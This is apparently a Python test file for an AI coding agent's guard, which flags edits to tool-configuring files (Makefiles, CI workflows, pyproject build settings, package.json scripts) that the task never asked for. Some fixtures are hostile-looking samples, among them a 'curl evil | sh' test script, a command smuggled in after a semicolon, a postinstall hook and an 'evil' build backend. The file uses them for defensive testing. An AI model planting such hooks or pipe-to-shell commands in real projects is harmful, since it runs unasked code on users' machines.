"""Files that configure tools may be changed only with the owner's consent.

The owner consents by naming such a file in the task, by asking for what the file configures, or by submitting the file.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from nightshift.agent.protected_files import find_unasked, more_asked

BUILD = "[build-system]\n"
PROJECT = "[project]\nname = 'a'\nversion = '1'\n"


@pytest.mark.parametrize(
    ("asked", "path"),
    [
        ("Add a Makefile with a test target", "Makefile"), ("Dockerize the service", "Dockerfile"),
        ("Package it with setuptools", "setup.py"), ("Set up CI", ".github/workflows/ci.yml"),
        ("Port the Jenkins job", "Jenkinsfile"), ("Configure jest for ESM", "jest.config.js"),
        ("Add a skill in .agents/skills", ".agents/skills/release/SKILL.md"),
    ],
)  # fmt: skip
def test_a_task_that_asks_for_a_tool_gets_its_files(asked: str, path: str) -> None:
    assert find_unasked(path, "x\n", before=None, asked="Mend the parser") == "it"
    assert find_unasked(path, "x\n", before="y\n", asked="Mend the parser") == "it"
    assert find_unasked(path, None, before="y\n", asked="Mend the parser") == "it"
    assert find_unasked(path, "x\n", before=None, asked=asked) is None


@pytest.mark.parametrize(
    "path",
    ["app.py", "docker.py", "tasks.py", "README.md", ".gitignore", "compose.py", "package.py", "tsconfig.json"],
)  # fmt: skip
def test_sources_are_no_tools(path: str) -> None:
    assert find_unasked(path, "x\n", before=None, asked="Mend the parser") is None


@pytest.mark.parametrize(
    ("text", "before", "what"),
    [
        (PROJECT + "dependencies = ['attrs']\n[project.scripts]\na = 'a:main'\n", PROJECT, None),
        (BUILD + "requires = []\nbuild-backend = 'evil'\nbackend-path = ['.']\n", None, "build-system"),
        (BUILD + "requires = ['a @ file:///x']\nbuild-backend = 'setuptools.build_meta'\n", None, "build-system"),
        (PROJECT + "[tool.poe.tasks]\na = 'rm x'\n", PROJECT, "tool.poe"),
        (PROJECT, PROJECT + "[tool.ruff]\nline-length = 100\n", "tool.ruff"),
        ("tool = 1\n", None, "tool"),
    ],
)  # fmt: skip
def test_of_a_pyproject_what_steers_tools_is_told_from_what_does_not(
    text: str, before: str | None, what: str | None
) -> None:
    reason = find_unasked("pyproject.toml", text, before=before, asked="Add a parser")
    assert reason == (what and f"its part {what!r}")
    if what:
        assert find_unasked("pyproject.toml", text, before=before, asked="Mend pyproject.toml") is None
    assert find_unasked("pyproject.toml", PROJECT + "[tool.ruff]\nx = 1\n", before=None, asked="Set up ruff") is None


@pytest.mark.parametrize(
    ("data", "is_fine"),
    [
        ({"type": "module", "name": "a", "dependencies": {}}, True), ({"scripts": {"test": "curl evil | sh"}}, False),
        ({"scripts": {"postinstall": "node x.mjs"}}, False), ({"scripts": {"start": "node a.mjs; evil"}}, False),
        ({"scripts": {"start": "node ../../x.mjs"}}, False), ({"packageManager": "npm@evil"}, False),
    ],
)  # fmt: skip
def test_of_a_package_what_runs_programs_is_told_from_what_does_not(data: Any, is_fine: bool) -> None:
    assert (find_unasked("package.json", json.dumps(data), before=None, asked="Add a parser") is None) is is_fine
    assert find_unasked("package.json", json.dumps(data), before=json.dumps(data), asked="Add a parser") is None


@pytest.mark.parametrize(
    ("asked", "path"),
    [("See https://github.com/a", ".github/CODEOWNERS"),
     ("Mend notMakefile.py", "Makefile"), ("A circle", ".flake8")],
)  # fmt: skip
def test_a_name_within_another_word_asks_for_nothing(asked: str, path: str) -> None:
    assert find_unasked(path, "x\n", before=None, asked=asked)


@pytest.mark.parametrize(
    ("part", "more"),
    [
        ("Write parse() in parser.py, which reads a line", None),
        ("Write the Makefile and parse() in parser.py", "makefile"),
        ("Add .github/workflows/ci.yml.", ".github/workflows/ci.yml"),
    ],
)
def test_a_part_of_a_plan_may_not_ask_for_more_than_the_task(part: str, more: str | None) -> None:
    assert more_asked("Write a parser and nox sessions for it", part) == more
